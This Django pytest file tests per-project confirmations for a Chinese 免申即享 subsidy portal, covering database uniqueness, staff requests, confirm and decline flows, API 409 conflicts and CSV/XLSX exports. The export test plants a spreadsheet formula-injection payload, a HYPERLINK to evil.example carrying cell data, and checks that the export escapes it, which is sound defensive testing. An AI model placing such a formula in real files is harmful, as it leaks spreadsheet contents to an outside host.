"""免申即享 confirmations per item: a benefit paid per item is asked once per (enterprise, item) pair —
the database keeps one request per pair (and one per enterprise for other benefits), staff tick pairs,
the enterprise's page names the item, confirming re-checks that item alone and makes the application for
it, declining stops asking about that item only, the API shows item_id and refuses a second answer or an
item already applied for with a 409, and the exports carry the item's title."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.db import IntegrityError, transaction
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from applications import services
from applications.models import Application, Confirmation, State
from applications.tests.support import LEASE_CONDITION, draft, lease_benefit, lessee
from enterprises import items as item_services
from enterprises.models import Item
from enterprises.tests.factories import MembershipFactory, make_item_kind
from portal.models import Scope
from portal.tests.api_support import assert_problem, key_client, new_key

pytestmark = pytest.mark.django_db
JSON = {"content_type": "application/json"}
# the lease conditions of the enterprise, and the project's own investment of at least 100 万元
PER_ITEM_CONDITION = {
    "all": [
        *LEASE_CONDITION["all"],
        {"fact": "test_upgrade_investment", "op": "gte", "value": 1000000, "quote": "项目总投资100万元以上"},
    ]
}


@pytest.fixture
def per_item(world):
    """A per-item benefit (10% of each project's investment) and a register-sourced enterprise with two
    register-sourced projects that meet it and one self-declared project (not authoritative)."""
    kind = make_item_kind()
    world.benefit = lease_benefit(
        name="技术改造项目补贴",
        per_item=kind,
        condition=PER_ITEM_CONDITION,
        ratio=Decimal("0.1"),
        base_fact="test_upgrade_investment",
    )
    enterprise = lessee(name="上海登记甲有限公司", source="register")
    user = MembershipFactory(enterprise=enterprise, user__username="gamma").user

    def item(title, investment="3000000", source="register"):
        return item_services.save_item(
            enterprise_id=enterprise.pk,
            kind=kind,
            title=title,
            values={"test_upgrade_investment": investment},
            source=source,
        )

    world.registered, world.registered_user = enterprise, user
    world.first, world.second = item("一号产线改造"), item("二号产线改造", "5000000")
    world.declared = item("自报产线改造", source="self_declared")
    return world


def ask(world, *items):
    return services.request_confirmations(
        actor=world.reviewer, benefit_id=world.benefit.pk, item_ids=[i.pk for i in items]
    )


def answer(world, confirmation, action="confirm", **extra):
    confirmation.refresh_from_db()
    run = services.confirm_grant if action == "confirm" else services.decline_grant
    return run(
        actor=world.registered_user,
        confirmation_id=confirmation.pk,
        expected_version=confirmation.version,
        **extra,
    )


# ---------------------------------------------------------------- the model


def test_the_database_keeps_one_request_per_item_and_one_per_enterprise_otherwise(per_item):
    world = per_item
    common = {"enterprise": world.registered, "benefit": world.benefit}
    Confirmation.objects.create(**common, item=world.first)
    Confirmation.objects.create(**common, item=world.second)  # another item: another request
    with pytest.raises(IntegrityError), transaction.atomic():
        Confirmation.objects.create(**common, item=world.first)
    plain = lease_benefit()
    Confirmation.objects.create(enterprise=world.registered, benefit=plain)
    with pytest.raises(IntegrityError), transaction.atomic():  # NULL items are not distinct here
        Confirmation.objects.create(enterprise=world.registered, benefit=plain)
    assert Confirmation.objects.filter(benefit=world.benefit).count() == 2


# ---------------------------------------------------------------- staff tick pairs


def test_the_list_shows_one_line_per_item_and_ticking_sends_one_request_per_pair(per_item, client):
    world = per_item
    client.force_login(world.reviewer)
    url = reverse("applications:auto_grant")
    html = client.get(url, {"benefit": world.benefit.pk}).content.decode()
    enterprise = world.registered.pk
    assert f'id="choose-{enterprise}-{world.first.pk}"' in html
    assert f'id="choose-{enterprise}-{world.second.pk}"' in html
    assert f'id="choose-{enterprise}-{world.declared.pk}"' not in html  # not from the register
    assert f'id="choose-{enterprise}"' not in html  # no per-enterprise box for a per-item benefit
    assert "一号产线改造" in html and "二号产线改造" in html

    sent = client.post(
        reverse("applications:send_confirmations"),
        {"benefit": world.benefit.pk, "item": [world.first.pk]},
        follow=True,
    )
    assert "已发送 1 份意愿确认（每个项目一份）：上海登记甲有限公司（一号产线改造）" in sent.content.decode()
    (request,) = Confirmation.objects.filter(benefit=world.benefit)
    assert request.item == world.first and request.estimated_amount == Decimal("300000")
    html = client.get(url, {"benefit": world.benefit.pk}).content.decode()
    assert f'id="confirmation-state-{enterprise}-{world.first.pk}" data-state="requested"' in html
    assert f'id="choose-{enterprise}-{world.first.pk}"' not in html  # cannot be sent twice
    assert f'id="confirmation-state-{enterprise}-{world.second.pk}" data-state=""' in html


def test_sending_by_enterprise_asks_each_listed_item_and_skips_pairs_already_asked(per_item):
    world = per_item
    ask(world, world.first)
    result = services.request_confirmations(
        actor=world.reviewer, benefit_id=world.benefit.pk, enterprise_ids=[world.registered.pk]
    )
    assert [c.item for c in result.sent] == [world.second]
    assert "一号产线改造" in result.skipped[0][1] and "不再重复发送" in result.skipped[0][1]
    # a self-declared project is not on the list
    refused = ask(world, world.declared)
    assert not refused.sent and "自报产线改造" in refused.skipped[0][1]
    assert Confirmation.objects.filter(benefit=world.benefit).count() == 2


def test_an_item_is_refused_for_a_benefit_not_paid_per_item(per_item):
    world = per_item
    plain = lease_benefit()
    with pytest.raises(services.ApplicationError) as refused:
        services.request_confirmations(actor=world.reviewer, benefit_id=plain.pk, item_ids=[world.first.pk])
    assert "items" in refused.value.message_dict


# ---------------------------------------------------------------- the enterprise answers


def test_confirming_an_item_makes_the_application_for_that_item(per_item):
    world = per_item
    first, second = ask(world, world.first, world.second).sent
    application = answer(world, second)
    assert application.item == world.second and application.state == State.UNDER_REVIEW
    assert application.requested_amount == Decimal("500000")  # 10% of that project's 500 万元
    assert application.explanation_snapshot["status"] == "eligible"
    second.refresh_from_db()
    assert second.state == Confirmation.State.CONFIRMED and second.application == application
    # the other item is still waiting, and confirming it makes its own application
    other = answer(world, first)
    assert other.item == world.first and other.requested_amount == Decimal("300000")
    assert set(Application.objects.values_list("item__title", flat=True)) == {"一号产线改造", "二号产线改造"}


def test_confirming_rechecks_that_items_own_result(per_item):
    world = per_item
    (request,) = ask(world, world.first).sent
    # the project no longer meets the investment threshold; the other project still does
    Item.objects.filter(pk=world.first.pk).update(values={"test_upgrade_investment": "500000"})
    with pytest.raises(services.InvalidTransition) as refused:
        answer(world, request)
    assert refused.value.code == "no_longer_met" and "一号产线改造" in refused.value.messages[0]
    assert not Application.objects.exists()


def test_an_item_already_applied_for_cannot_be_confirmed_but_another_can(per_item):
    world = per_item
    first, second = ask(world, world.first, world.second).sent
    world.enterprise, world.user = world.registered, world.registered_user
    draft(world, item_id=world.first.pk)
    with pytest.raises(services.DuplicateApplication) as refused:
        answer(world, first)
    assert "一号产线改造" in refused.value.messages[0]
    assert answer(world, second).item == world.second


def test_declining_an_item_stops_asking_about_that_item_only(per_item, client):
    world = per_item
    first, second = ask(world, world.first, world.second).sent
    client.force_login(world.registered_user)
    page = client.get(reverse("applications:confirmation", args=[first.pk])).content.decode()
    assert 'id="confirmation-item"' in page and "一号产线改造" in page and "二号产线改造" not in page
    assert world.first.kind not in page  # the item's title, not its kind's code
    declined = client.post(
        reverse("applications:confirmation", args=[first.pk]),
        {"action": "decline", "version": 1, "reason": "该项目另行申报"},
        follow=True,
    )
    assert "不再就“一号产线改造”向贵企业发起确认" in declined.content.decode()
    first.refresh_from_db()
    assert first.state == Confirmation.State.DECLINED
    again = services.request_confirmations(
        actor=world.reviewer, benefit_id=world.benefit.pk, enterprise_ids=[world.registered.pk]
    )
    assert not again.sent and "企业已放弃" in again.skipped[0][1]  # the second one is still waiting
    assert answer(world, second).item == world.second
    listing = client.get(reverse("applications:confirmations")).content.decode()
    assert listing.count('class="confirmation-item"') == 2


# ---------------------------------------------------------------- the API


def test_the_api_shows_the_item_and_a_second_answer_is_a_409_per_item(per_item):
    world = per_item
    first, second = ask(world, world.first, world.second).sent
    plain = Confirmation.objects.create(enterprise=world.registered, benefit=lease_benefit())
    client = key_client(new_key(Scope.APPLICATIONS, user=world.registered_user)[1])
    rows = {row["id"]: row for row in client.get("/api/v1/confirmations/").json()["results"]}
    assert (rows[first.pk]["item_id"], rows[first.pk]["item_title"]) == (world.first.pk, "一号产线改造")
    assert (rows[plain.pk]["item_id"], rows[plain.pk]["item_title"]) == (None, None)
    url = f"/api/v1/confirmations/{first.pk}/confirm/"
    done = client.post(url, {"version": 1}, **JSON)
    assert done.status_code == 200, done.content
    assert Application.objects.get(pk=done.json()["application"]).item == world.first
    assert_problem(client.post(url, {"version": 2}, **JSON), 409, code="duplicate")
    # the 409 is about that item: the other item is answered normally
    other = client.post(f"/api/v1/confirmations/{second.pk}/confirm/", {"version": 1}, **JSON)
    assert other.status_code == 200 and other.json()["item_id"] == world.second.pk
    assert Application.objects.filter(benefit=world.benefit).count() == 2


def test_the_api_refuses_confirming_an_item_applied_for_meanwhile_with_a_409(per_item):
    world = per_item
    (request,) = ask(world, world.first).sent
    world.enterprise, world.user = world.registered, world.registered_user
    draft(world, item_id=world.first.pk)
    client = key_client(new_key(Scope.APPLICATIONS, user=world.registered_user)[1])
    refused = client.post(f"/api/v1/confirmations/{request.pk}/confirm/", {"version": 1}, **JSON)
    assert "一号产线改造" in assert_problem(refused, 409, code="duplicate")["detail"]
    request.refresh_from_db()
    assert request.state == Confirmation.State.REQUESTED


def test_the_schema_documents_item_id():
    import yaml

    openapi = yaml.safe_load(Client().get("/api/schema/").content)
    properties = openapi["components"]["schemas"]["Confirmation"]["properties"]
    assert properties["item_id"]["nullable"] is True and "null" in properties["item_id"]["description"]
    assert "item_title" in properties


# ---------------------------------------------------------------- exports


def test_exports_have_one_line_per_item_with_its_title_written_as_text(per_item, client):
    world = per_item
    attack = '=HYPERLINK("http://evil.example/?"&B2,"点击")'
    Item.objects.filter(pk=world.second.pk).update(title=attack)
    client.force_login(world.reviewer)
    url = reverse("applications:auto_grant")
    exported = client.get(url, {"benefit": world.benefit.pk, "format": "csv"})
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert rows[0][2] == "申报事项"
    assert [(row[0], row[2], row[6]) for row in rows[1:]] == [
        ("上海登记甲有限公司", "一号产线改造", "30"),
        ("上海登记甲有限公司", "'" + attack, "50"),
    ]
    workbook = load_workbook(
        io.BytesIO(client.get(url, {"benefit": world.benefit.pk, "format": "xlsx"}).content)
    )
    sheet = workbook.active
    assert sheet["C1"].value == "申报事项" and sheet["C2"].value == "一号产线改造"
    assert sheet["C3"].value == attack and sheet["C3"].data_type == "s"
